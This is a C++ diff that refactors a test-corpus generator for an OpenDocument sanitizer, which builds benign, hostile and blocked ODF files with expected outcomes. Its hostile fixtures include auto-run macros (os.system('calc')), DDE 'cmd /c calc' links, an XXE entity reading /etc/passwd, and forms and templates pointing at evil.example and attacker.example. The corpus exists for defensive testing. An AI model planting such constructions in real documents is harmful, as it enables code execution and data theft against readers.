@@ -9,7 +9,10 @@ namespace sanitize::formats {
 namespace {
 
 using corpus::Expectation;
+using odf::testing::entry_data;
+using odf::testing::insert_before;
 using odf::testing::Package;
+using odf::testing::replace_first;
 
 const std::vector<std::string> kDeliveredChecks{"odf_valid", "odf_no_active",
                                                 "odf_entries_accounted"};
@@ -39,27 +42,23 @@ Expectation blocked(std::string reason) {
   return Expectation{"blocked", std::move(reason), {}, {}};
 }
 
-void add(corpus::Writer& writer, std::string_view path, const std::string& bytes,
-         Expectation expectation, std::string_view description) {
-  writer.add(path, std::string_view(bytes), std::move(expectation), description);
-}
-
 void benign(corpus::Writer& writer) {
-  add(writer, "odf/benign/report.odt", odf::testing::text_document().build(),
+  writer.add(
+      "odf/benign/report.odt", odf::testing::text_document().build(),
       delivered("clean", {}, kFidelityChecks),
       "Japanese and English text, heading, table, picture, header and footer, comment, chart, "
       "web link");
-  add(writer, "odf/benign/budget.ods", odf::testing::spreadsheet().build(),
-      delivered("clean", {}, kFidelityChecks),
-      "sheet with Japanese and English cells, a SUM formula, comment, picture and chart");
-  add(writer, "odf/benign/meeting.odp", odf::testing::presentation().build(),
-      delivered("clean", {}, kFidelityChecks),
-      "two slides: Japanese and English text, footer, picture, comment and chart");
+  writer.add("odf/benign/budget.ods", odf::testing::spreadsheet().build(),
+             delivered("clean", {}, kFidelityChecks),
+             "sheet with Japanese and English cells, a SUM formula, comment, picture and chart");
+  writer.add("odf/benign/meeting.odp", odf::testing::presentation().build(),
+             delivered("clean", {}, kFidelityChecks),
+             "two slides: Japanese and English text, footer, picture, comment and chart");
   Package chart = odf::testing::text_document();
   chart.add("Object 1/styles.xml", odf::testing::styles_xml("<office:styles/>"))
       .add("Object 1/meta.xml", odf::testing::meta_xml("<meta:generator>x</meta:generator>"));
-  add(writer, "odf/benign/chart-parts.odt", chart.build(), delivered("clean", {}, kFidelityChecks),
-      "a chart object with its own styles and metadata");
+  writer.add("odf/benign/chart-parts.odt", chart.build(), delivered("clean", {}, kFidelityChecks),
+             "a chart object with its own styles and metadata");
 }
 
 void macros(corpus::Writer& writer) {
@@ -74,28 +73,19 @@ void macros(corpus::Writer& writer) {
       .add("Basic/Standard/script-lb.xml", "<library:library/>")
       .add("Basic/script-lc.xml", "<library:libraries/>")
       .add("Dialogs/Standard/Dialog1.xml", "<dlg:window/>");
-  add(writer, "odf/hostile/basic-autoopen.odt", basic.build(),
-      sanitized({"odf.basic_macro", "odf.event_listener"}, kFidelityChecks),
-      "StarBasic library run by the document's open event");
+  writer.add("odf/hostile/basic-autoopen.odt", basic.build(),
+             sanitized({"odf.basic_macro", "odf.event_listener"}, kFidelityChecks),
+             "StarBasic library run by the document's open event");
 
   Package template_macro = odf::testing::text_document({}, listeners);
-  add(
-      writer, "odf/hostile/macro-template.ott",
-      [&] {
-        auto archive =
-            template_macro.add("Basic/Standard/Module1.xml", std::string(kBasicModule)).archive();
-        archive.entries.front().data = "application/vnd.oasis.opendocument.text-template";
-        for (auto& entry : archive.entries) {
-          if (entry.name == "META-INF/manifest.xml") {
-            const std::string from = "\"application/vnd.oasis.opendocument.text\"/>";
-            const auto at = entry.data.find(from);
-            entry.data.replace(at, from.size(),
-                               "\"application/vnd.oasis.opendocument.text-template\"/>");
-          }
-        }
-        return zip::testing::build(archive);
-      }(),
-      sanitized({"odf.basic_macro", "odf.event_listener"}), "a text template with a macro");
+  auto template_archive =
+      template_macro.add("Basic/Standard/Module1.xml", std::string(kBasicModule)).archive();
+  entry_data(template_archive, "mimetype") = "application/vnd.oasis.opendocument.text-template";
+  replace_first(entry_data(template_archive, "META-INF/manifest.xml"),
+                "\"application/vnd.oasis.opendocument.text\"/>",
+                "\"application/vnd.oasis.opendocument.text-template\"/>");
+  writer.add("odf/hostile/macro-template.ott", zip::testing::build(template_archive),
+             sanitized({"odf.basic_macro", "odf.event_listener"}), "a text template with a macro");
 
   Package scripts = odf::testing::spreadsheet(
       {},
@@ -104,9 +94,9 @@ void macros(corpus::Writer& writer) {
   scripts.add("Scripts/python/evil.py", "import os\nos.system('calc')\n", "")
       .add("Scripts/javascript/Library1/macro.js", "importClass(java.lang.Runtime);", "")
       .add("Basic/Standard/Module1.xml", std::string(kBasicModule));
-  add(writer, "odf/hostile/scripts.ods", scripts.build(),
-      sanitized({"odf.script", "odf.basic_macro"}),
-      "Python and JavaScript libraries, an inline office:script, a Basic library");
+  writer.add("odf/hostile/scripts.ods", scripts.build(),
+             sanitized({"odf.script", "odf.basic_macro"}),
+             "Python and JavaScript libraries, an inline office:script, a Basic library");
 
   const std::string links =
       std::string("<text:p><text:a xlink:type=\"simple\" xlink:href=\"") + std::string(kScriptUrl) +
@@ -118,7 +108,8 @@ void macros(corpus::Writer& writer) {
       "xlink:href=\"Pictures/tiny.png\"/>"
       "</draw:frame></draw:a><text:script script:language=\"StarBasic\">MsgBox 1</text:script>"
       "</text:p>";
-  add(writer, "odf/hostile/macro-links.odt", odf::testing::text_document(links).build(),
+  writer.add(
+      "odf/hostile/macro-links.odt", odf::testing::text_document(links).build(),
       sanitized({"odf.macro_link", "odf.script"}),
       "links, a picture link and a macro field that run macros and scripts (the link text stays)");
 
@@ -126,18 +117,11 @@ void macros(corpus::Writer& writer) {
       "<office:scripts><office:event-listeners><script:event-listener "
       "script:language=\"ooo:script\" script:event-name=\"dom:load\" xlink:href=\"" +
       std::string(kScriptUrl) + "\"/></office:event-listeners></office:scripts>";
-  Package nested = odf::testing::text_document();
-  auto archive = nested.archive();
-  for (auto& entry : archive.entries) {
-    if (entry.name == "Object 1/content.xml") {
-      const std::string chart = entry.data;
-      const auto body = chart.find("<office:body>");
-      entry.data = chart.substr(0, body) + chart_listener + chart.substr(body);
-    }
-  }
-  add(writer, "odf/hostile/chart-event.odt", zip::testing::build(archive),
-      sanitized({"odf.event_listener"}, {"odf_objects_kept"}),
-      "an event listener inside the embedded chart: the chart is rebuilt and kept");
+  auto archive = odf::testing::text_document().archive();
+  insert_before(entry_data(archive, "Object 1/content.xml"), "<office:body>", chart_listener);
+  writer.add("odf/hostile/chart-event.odt", zip::testing::build(archive),
+             sanitized({"odf.event_listener"}, {"odf_objects_kept"}),
+             "an event listener inside the embedded chart: the chart is rebuilt and kept");
 }
 
 void objects(corpus::Writer& writer) {
@@ -150,7 +134,8 @@ void objects(corpus::Writer& writer) {
       .add("ObjectReplacements/Object 2",
            std::string("\xD7\xCD\xC6\x9A", 4) + std::string(60, '\0'),
            "application/x-openoffice-wmf;windows_formatname=\"Image WMF\"");
-  add(writer, "odf/hostile/ole-object.odt", ole.build(),
+  writer.add(
+      "odf/hostile/ole-object.odt", ole.build(),
       sanitized({"odf.ole_object"}, {"odf_objects_kept"}),
       "an OLE package object beside a chart: the OLE object and its picture go, the chart stays");
 
@@ -162,9 +147,9 @@ void objects(corpus::Writer& writer) {
       "draw:mime-type=\"application/x-shockwave-flash\"/></draw:frame><draw:frame "
       "svg:width=\"3cm\" svg:height=\"3cm\" text:anchor-type=\"as-char\"><draw:floating-frame "
       "xlink:href=\"http://evil.example/\"/></draw:frame></text:p>";
-  add(writer, "odf/hostile/applet-plugin.odt", odf::testing::text_document(plugins).build(),
-      sanitized({"odf.applet", "odf.plugin", "odf.floating_frame"}),
-      "a Java applet, a Flash plugin and a floating frame");
+  writer.add("odf/hostile/applet-plugin.odt", odf::testing::text_document(plugins).build(),
+             sanitized({"odf.applet", "odf.plugin", "odf.floating_frame"}),
+             "a Java applet, a Flash plugin and a floating frame");
 
   const std::string form =
       "<office:forms><form:form form:name=\"Form\" xlink:href=\"https://evil.example/collect\" "
@@ -174,7 +159,8 @@ void objects(corpus::Writer& writer) {
       "script:language=\"ooo:script\" script:event-name=\"form:performaction\" xlink:href=\"" +
       std::string(kScriptUrl) +
       "\"/></office:event-listeners></form:button></form:form></office:forms>";
-  add(writer, "odf/hostile/form-events.odt",
+  writer.add(
+      "odf/hostile/form-events.odt",
       odf::testing::text_document(
           "<text:p><draw:control draw:control=\"control1\" svg:width=\"3cm\" svg:height=\"1cm\" "
           "text:anchor-type=\"as-char\"/></text:p>",
@@ -202,20 +188,15 @@ void external(corpus::Writer& writer) {
       "</text:section>";
   Package package = odf::testing::text_document(links);
   auto archive = package.archive();
-  for (auto& entry : archive.entries) {
-    if (entry.name == "meta.xml") {
-      const auto end = entry.data.find("</office:meta>");
-      entry.data.insert(end,
-                        "<meta:template xlink:type=\"simple\" "
-                        "xlink:href=\"\\\\attacker.example\\templates\\normal.ott\" "
-                        "xlink:title=\"normal\"/><meta:auto-reload "
-                        "xlink:href=\"https://evil.example/next.odt\" meta:delay=\"PT0S\"/>");
-    }
-  }
-  add(writer, "odf/hostile/external-links.odt", zip::testing::build(archive),
-      sanitized({"odf.unsafe_link", "odf.remote_resource", "odf.template_link"}),
-      "links to files, shares and ms-msdt:, a remote picture, linked sections, a remote "
-      "template and an automatic reload; web, relative and internal links stay");
+  insert_before(entry_data(archive, "meta.xml"), "</office:meta>",
+                "<meta:template xlink:type=\"simple\" "
+                "xlink:href=\"\\\\attacker.example\\templates\\normal.ott\" "
+                "xlink:title=\"normal\"/><meta:auto-reload "
+                "xlink:href=\"https://evil.example/next.odt\" meta:delay=\"PT0S\"/>");
+  writer.add("odf/hostile/external-links.odt", zip::testing::build(archive),
+             sanitized({"odf.unsafe_link", "odf.remote_resource", "odf.template_link"}),
+             "links to files, shares and ms-msdt:, a remote picture, linked sections, a remote "
+             "template and an automatic reload; web, relative and internal links stay");
 
   const std::string cells =
       "<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c "
@@ -229,30 +210,25 @@ void external(corpus::Writer& writer) {
       "</table:table-cell>";
   Package dde = odf::testing::spreadsheet(cells);
   auto dde_archive = dde.archive();
-  for (auto& entry : dde_archive.entries) {
-    if (entry.name == "content.xml") {
-      const auto body_end = entry.data.find("</office:spreadsheet>");
-      entry.data.insert(
-          body_end,
-          "<table:database-ranges><table:database-range table:name=\"db\" "
-          "table:target-range-address=\"'予算 Budget'.A1:'予算 Budget'.C4\">"
-          "<table:database-source-sql table:database-name=\"evil\" "
-          "table:sql-statement=\"SELECT 1\"/></table:database-range></table:database-ranges>"
-          "<table:dde-links><table:dde-link><office:dde-source office:dde-application=\"cmd\" "
-          "office:dde-topic=\"/c calc\" office:dde-item=\"A1\"/><table:table/></table:dde-link>"
-          "</table:dde-links>");
-      const auto table_end = entry.data.find("</table:table>");
-      entry.data.insert(table_end,
-                        "<table:table-row><table:table-cell "
-                        "office:value-type=\"string\"><text:p>linked</text:p>"
-                        "</table:table-cell></table:table-row>");
-      const auto shapes = entry.data.find("<table:shapes>");
-      entry.data.insert(shapes,
-                        "<table:table-source xlink:href=\"https://evil.example/data.ods\" "
-                        "table:table-name=\"Sheet1\" table:mode=\"copy-results-only\"/>");
-    }
-  }
-  add(writer, "odf/hostile/dde-and-data.ods", zip::testing::build(dde_archive),
+  std::string& dde_content = entry_data(dde_archive, "content.xml");
+  insert_before(
+      dde_content, "</office:spreadsheet>",
+      "<table:database-ranges><table:database-range table:name=\"db\" "
+      "table:target-range-address=\"'予算 Budget'.A1:'予算 Budget'.C4\">"
+      "<table:database-source-sql table:database-name=\"evil\" "
+      "table:sql-statement=\"SELECT 1\"/></table:database-range></table:database-ranges>"
+      "<table:dde-links><table:dde-link><office:dde-source office:dde-application=\"cmd\" "
+      "office:dde-topic=\"/c calc\" office:dde-item=\"A1\"/><table:table/></table:dde-link>"
+      "</table:dde-links>");
+  insert_before(dde_content, "</table:table>",
+                "<table:table-row><table:table-cell "
+                "office:value-type=\"string\"><text:p>linked</text:p>"
+                "</table:table-cell></table:table-row>");
+  insert_before(dde_content, "<table:shapes>",
+                "<table:table-source xlink:href=\"https://evil.example/data.ods\" "
+                "table:table-name=\"Sheet1\" table:mode=\"copy-results-only\"/>");
+  writer.add(
+      "odf/hostile/dde-and-data.ods", zip::testing::build(dde_archive),
       sanitized({"odf.dde_link", "odf.remote_resource", "odf.data_source"}),
       "a DDE formula, a WEBSERVICE formula, DDE links, a database range over SQL and a linked "
       "sheet; a string that only mentions DDE( stays");
@@ -265,13 +241,10 @@ void external(corpus::Writer& writer) {
       std::string(kScriptUrl) +
       "\"/></office:event-listeners></table:content-validation></table:content-validations>";
   auto validated = odf::testing::spreadsheet().archive();
-  for (auto& entry : validated.entries) {
-    if (entry.name == "content.xml")
-      entry.data.insert(entry.data.find("<table:table "), validation);
-  }
-  add(writer, "odf/hostile/validation-macro.ods", zip::testing::build(validated),
-      sanitized({"odf.macro_link", "odf.event_listener"}, kFidelityChecks),
-      "a cell validation that runs a macro on bad input");
+  insert_before(entry_data(validated, "content.xml"), "<table:table ", validation);
+  writer.add("odf/hostile/validation-macro.ods", zip::testing::build(validated),
+             sanitized({"odf.macro_link", "odf.event_listener"}, kFidelityChecks),
+             "a cell validation that runs a macro on bad input");
 
   const std::string actions =
       "<draw:frame svg:x=\"2cm\" svg:y=\"15cm\" svg:width=\"5cm\" svg:height=\"1cm\">"
@@ -289,10 +262,10 @@ void external(corpus::Writer& writer) {
       "xlink:href=\"file://attacker.example/share/x.odp\"/><script:event-listener "
       "script:language=\"ooo:script\" script:event-name=\"dom:mouseover\" xlink:href=\"" +
       std::string(kScriptUrl) + "\"/></office:event-listeners></draw:frame>";
-  add(writer, "odf/hostile/slide-actions.odp", odf::testing::presentation(actions).build(),
-      sanitized({"odf.event_listener", "odf.unsafe_link"}, kFidelityChecks),
-      "click actions that run a program, open a share and run a macro on mouse-over; "
-      "next-page stays");
+  writer.add("odf/hostile/slide-actions.odp", odf::testing::presentation(actions).build(),
+             sanitized({"odf.event_listener", "odf.unsafe_link"}, kFidelityChecks),
+             "click actions that run a program, open a share and run a macro on mouse-over; "
+             "next-page stays");
 }
 
 void package_content(corpus::Writer& writer) {
@@ -313,7 +286,8 @@ void package_content(corpus::Writer& writer) {
       .add("layout-cache", std::string("\x01\x02\x03\x04", 4), "application/binary")
       .add("Fonts/evil.ttf", std::string(64, 'F'), "application/x-font-ttf")
       .add_unlisted("Versions/Version1", "old content");
-  add(writer, "odf/hostile/package-junk.odt", junk.build(),
+  writer.add(
+      "odf/hostile/package-junk.odt", junk.build(),
       sanitized({"odf.foreign_markup", "odf.printer_settings", "odf.signature",
                  "odf.ui_configuration", "odf.unknown_entry"},
                 kFidelityChecks),
@@ -321,17 +295,12 @@ void package_content(corpus::Writer& writer) {
       "an embedded font and an old version");
 
   auto doctype = odf::testing::text_document().archive();
-  for (auto& entry : doctype.entries) {
-    if (entry.name == "content.xml") {
-      const auto root = entry.data.find("<office:document-content");
-      entry.data.insert(root,
-                        "<!DOCTYPE office:document-content [<!ENTITY xxe SYSTEM "
-                        "\"file:///etc/passwd\"><!ENTITY lol \"lol\">]><?evil run?>");
-    }
-  }
-  add(writer, "odf/hostile/doctype.odt", zip::testing::build(doctype),
-      sanitized({"odf.doctype", "odf.processing_instruction"}, kFidelityChecks),
-      "a DOCTYPE declaring external and internal entities, and a processing instruction");
+  insert_before(entry_data(doctype, "content.xml"), "<office:document-content",
+                "<!DOCTYPE office:document-content [<!ENTITY xxe SYSTEM "
+                "\"file:///etc/passwd\"><!ENTITY lol \"lol\">]><?evil run?>");
+  writer.add("odf/hostile/doctype.odt", zip::testing::build(doctype),
+             sanitized({"odf.doctype", "odf.processing_instruction"}, kFidelityChecks),
+             "a DOCTYPE declaring external and internal entities, and a processing instruction");
 
   Package pictures = odf::testing::text_document(
       "<text:p><draw:frame svg:width=\"1cm\" svg:height=\"1cm\" text:anchor-type=\"as-char\">"
@@ -348,24 +317,17 @@ void package_content(corpus::Writer& writer) {
       .add("Pictures/drawing.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "image/svg+xml");
-  add(writer, "odf/hostile/pictures.odt", pictures.build(),
+  writer.add(
+      "odf/hostile/pictures.odt", pictures.build(),
       sanitized({"odf.picture_mismatch", "odf.metafile", "odf.picture_blocked"}, kFidelityChecks),
       "a program named .png, a WMF, an SVG with a script and an inline program as a picture; "
       "the real PNG and the chart stay");
 
-  auto chart_svm = odf::testing::text_document().archive();
-  for (auto& entry : chart_svm.entries) {
-    if (entry.name == "ObjectReplacements/Object 1") entry.data = "VCLMTF" + std::string(64, '\0');
-    if (entry.name == "META-INF/manifest.xml") {
-      const std::string from = "Object 1\" manifest:media-type=\"image/png";
-      entry.data.replace(entry.data.find(from), from.size(),
-                         "Object 1\" manifest:media-type=\"application/x-openoffice-gdimetafile");
-    }
-  }
-  add(writer, "odf/hostile/chart-svm-replacement.odt", zip::testing::build(chart_svm),
-      sanitized({"odf.metafile"}, {"odf_objects_kept", "odf_text_same"}),
-      "a chart whose replacement picture is an SVM metafile, as LibreOffice writes it: the "
-      "picture goes, the chart stays");
+  writer.add("odf/hostile/chart-svm-replacement.odt",
+             zip::testing::build(odf::testing::chart_with_svm_replacement()),
+             sanitized({"odf.metafile"}, {"odf_objects_kept", "odf_text_same"}),
+             "a chart whose replacement picture is an SVM metafile, as LibreOffice writes it: the "
+             "picture goes, the chart stays");
 }
 
 void structure(corpus::Writer& writer) {
@@ -382,56 +344,57 @@ void structure(corpus::Writer& writer) {
   absolute.name = "/etc/evil";
   absolute.data = "x";
   hostile_names.entries.push_back(absolute);
-  add(writer, "odf/hostile/entry-names.odt", zip::testing::build(hostile_names),
-      sanitized({"odf.unsafe_entry"}, kFidelityChecks),
-      "a traversal name, an absolute name and a second content.xml");
+  writer.add("odf/hostile/entry-names.odt", zip::testing::build(hostile_names),
+             sanitized({"odf.unsafe_entry"}, kFidelityChecks),
+             "a traversal name, an absolute name and a second content.xml");
 
   auto repaired = odf::testing::text_document().archive();
   std::rotate(repaired.entries.begin(), repaired.entries.begin() + 1, repaired.entries.end());
   repaired.entries.back().deflate = true;
-  add(writer, "odf/hostile/mimetype-last.odt", zip::testing::build(repaired),
+  writer.add(
+      "odf/hostile/mimetype-last.odt", zip::testing::build(repaired),
       sanitized({"odf.package_repaired"}, kFidelityChecks),
       "the mimetype entry last and compressed: LibreOffice opens it, the rebuild repairs it");
 
   Package encrypted = odf::testing::text_document();
   encrypted.encrypt("content.xml");
-  add(writer, "odf/blocked/encrypted.odt", encrypted.build(), blocked("encrypted"),
-      "content.xml encrypted with a password (manifest:encryption-data)");
+  writer.add("odf/blocked/encrypted.odt", encrypted.build(), blocked("encrypted"),
+             "content.xml encrypted with a password (manifest:encryption-data)");
 
-  add(writer, "odf/blocked/no-manifest.odt",
-      odf::testing::text_document().without_manifest().build(), blocked("corrupt"),
-      "no META-INF/manifest.xml");
+  writer.add("odf/blocked/no-manifest.odt",
+             odf::testing::text_document().without_manifest().build(), blocked("corrupt"),
+             "no META-INF/manifest.xml");
 
   auto broken = odf::testing::text_document().archive();
-  for (auto& entry : broken.entries) {
-    if (entry.name == "content.xml") entry.data.resize(entry.data.size() / 2);
-  }
-  add(writer, "odf/blocked/broken-content.odt", zip::testing::build(broken), blocked("corrupt"),
-      "content.xml cut in half: not well-formed");
+  std::string& broken_content = entry_data(broken, "content.xml");
+  broken_content.resize(broken_content.size() / 2);
+  writer.add("odf/blocked/broken-content.odt", zip::testing::build(broken), blocked("corrupt"),
+             "content.xml cut in half: not well-formed");
 
   const std::string whole = odf::testing::text_document().build();
-  add(writer, "odf/blocked/truncated.odt", whole.substr(0, whole.size() - 40),
+  writer.add(
+      "odf/blocked/truncated.odt", whole.substr(0, whole.size() - 40),
       blocked("extension_not_allowed"),
       "the package cut short: no central directory, so nothing shows it is ODF; a damaged zip "
       "may not be named .odt");
 
   Package staroffice("application/vnd.sun.xml.writer");
   staroffice.add("content.xml", "<office:document-content/>");
-  add(writer, "odf/blocked/legacy.sxw", staroffice.build(), blocked("unsupported_format"),
-      "an OpenOffice.org 1.x document");
+  writer.add("odf/blocked/legacy.sxw", staroffice.build(), blocked("unsupported_format"),
+             "an OpenOffice.org 1.x document");
 
   Package formula("application/vnd.oasis.opendocument.formula");
   formula.add("content.xml", "<math:math xmlns:math=\"http://www.w3.org/1998/Math/MathML\"/>");
-  add(writer, "odf/blocked/formula.odf", formula.build(), blocked("unsupported_format"),
-      "a standalone formula document: no module for it");
+  writer.add("odf/blocked/formula.odf", formula.build(), blocked("unsupported_format"),
+             "a standalone formula document: no module for it");
 
   auto no_mimetype = odf::testing::text_document().archive();
   no_mimetype.entries.erase(no_mimetype.entries.begin());
-  add(writer, "odf/blocked/no-mimetype.odt", zip::testing::build(no_mimetype),
-      blocked("unsupported_format"), "a manifest but no mimetype entry");
+  writer.add("odf/blocked/no-mimetype.odt", zip::testing::build(no_mimetype),
+             blocked("unsupported_format"), "a manifest but no mimetype entry");
 
-  add(writer, "odf/blocked/renamed.docx", odf::testing::text_document().build(),
-      blocked("extension_not_allowed"), "an ODF text named .docx");
+  writer.add("odf/blocked/renamed.docx", odf::testing::text_document().build(),
+             blocked("extension_not_allowed"), "an ODF text named .docx");
 }
 
 }  // namespace
